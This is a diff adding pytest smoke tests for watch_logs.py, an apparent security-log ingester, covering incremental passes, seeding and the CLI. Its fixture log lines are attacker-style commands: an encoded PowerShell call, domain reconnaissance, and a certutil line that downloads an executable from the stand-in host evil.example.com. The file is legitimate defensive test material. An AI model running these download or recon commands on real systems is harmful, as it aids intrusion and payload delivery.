@@ -0,0 +1,111 @@
+# test_watch_logs.py
+"""
+Smoke tests for watch_logs.py: incremental passes over a temp folder, seeding, and the
+CLI entry point.
+
+Run from Backend/:  python -m pytest -q test_watch_logs.py
+"""
+import os
+import sys
+import json
+import subprocess
+
+import watch_logs
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+
+def paths(tmp_path):
+    return {
+        "logs_dir": str(tmp_path / "logs"),
+        "state_file": str(tmp_path / "watch_state.json"),
+        "all_logs_file": str(tmp_path / "all_logs.json"),
+        "classified_file": str(tmp_path / "classified_logs.json"),
+    }
+
+def texts(path):
+    with open(path, "r", encoding="utf-8") as fh:
+        return [e["text"] for e in json.load(fh)]
+
+def test_ingest_delta_emits_only_appended_data(tmp_path):
+    p = paths(tmp_path)
+    os.makedirs(p["logs_dir"])
+    log = tmp_path / "logs" / "host.log"
+    ndjson = tmp_path / "logs" / "events.json"
+    log.write_text("powershell -enc AAA\n")
+    ndjson.write_text('{"cmd": "whoami"}\n{"cmd": "ipconfig"}\n')
+
+    stats = watch_logs.ingest_delta(**p)
+    assert stats["new_logs"] == 2
+
+    with open(log, "a") as fh:
+        fh.write("net user /domain\npartial")
+    with open(ndjson, "a") as fh:
+        fh.write('{"cmd": "net group"}\n')
+    stats = watch_logs.ingest_delta(**p)
+    assert stats["new_logs"] == 2
+    assert sorted(texts(p["all_logs_file"])[2:]) == sorted(['{"cmd": "net group"}\n', "net user /domain\n"])
+
+    # nothing new (the partial line stays pending)
+    assert watch_logs.ingest_delta(**p)["new_logs"] == 0
+    assert len(texts(p["classified_file"])) == 4
+
+def test_first_pass_seeds_when_outputs_exist(tmp_path):
+    p = paths(tmp_path)
+    os.makedirs(p["logs_dir"])
+    log = tmp_path / "logs" / "host.log"
+    log.write_text("already loaded by load_logs.py\n")
+    with open(p["all_logs_file"], "w") as fh:
+        json.dump([{"filename": str(log), "text": "already loaded by load_logs.py\n"}], fh)
+
+    stats = watch_logs.ingest_delta(**p)
+    assert stats["new_logs"] == 0 and stats["tracked_files"] == 1
+
+    with open(log, "a") as fh:
+        fh.write("new line\n")
+    assert watch_logs.ingest_delta(**p)["new_logs"] == 1
+    assert texts(p["all_logs_file"]) == ["already loaded by load_logs.py\n", "new line\n"]
+
+def test_cli_once_and_seed(tmp_path):
+    os.makedirs(tmp_path / "logs")
+    (tmp_path / "logs" / "host.log").write_text("certutil -urlcache -f http://evil.example.com/a.exe\n")
+    for args in (["--seed", "--once"], ["--once"]):
+        r = subprocess.run([sys.executable, os.path.join(HERE, "watch_logs.py"), *args],
+                           cwd=tmp_path, capture_output=True, text=True, timeout=120)
+        assert r.returncode == 0, r.stderr
+    assert (tmp_path / "watch_state.json").exists()
+
+def test_seed_counts_records_without_emitting(tmp_path):
+    p = paths(tmp_path)
+    os.makedirs(p["logs_dir"])
+    arr = tmp_path / "logs" / "events.json"
+    rows = tmp_path / "logs" / "rows.csv"
+    arr.write_text(json.dumps([{"cmd": "whoami"}, {"cmd": "ipconfig"}]))
+    rows.write_text("host,text\nh1,whoami\nh2,ipconfig\n")
+
+    assert watch_logs.ingest_delta(seed=True, **p)["new_logs"] == 0
+    state = watch_logs.load_state(p["state_file"])
+    assert state[str(arr)]["records"] == 2 and state[str(rows)]["records"] == 2
+
+    arr.write_text(json.dumps([{"cmd": "whoami"}, {"cmd": "ipconfig"}, {"cmd": "net group"}]))
+    with open(rows, "a") as fh:
+        fh.write("h3,net user /domain\n")
+    assert watch_logs.ingest_delta(**p)["new_logs"] == 2
+    assert sorted(texts(p["all_logs_file"])) == sorted(['{"cmd": "net group"}', "net user /domain"])
+
+def test_large_delta_is_read_in_bounded_passes(tmp_path, monkeypatch):
+    monkeypatch.setattr(watch_logs, "DELTA_MAX_BYTES", 64)
+    p = paths(tmp_path)
+    os.makedirs(p["logs_dir"])
+    lines = [f"event {i:03d} powershell\n" for i in range(20)]
+    (tmp_path / "logs" / "host.log").write_text("".join(lines))
+
+    passes = []
+    while True:
+        stats = watch_logs.ingest_delta(**p)
+        passes.append(stats)
+        if not stats["pending"]:
+            break
+    assert len(passes) > 1
+    got = texts(p["all_logs_file"])
+    assert all(len(t.encode()) <= 64 for t in got)
+    assert "".join(got) == "".join(lines)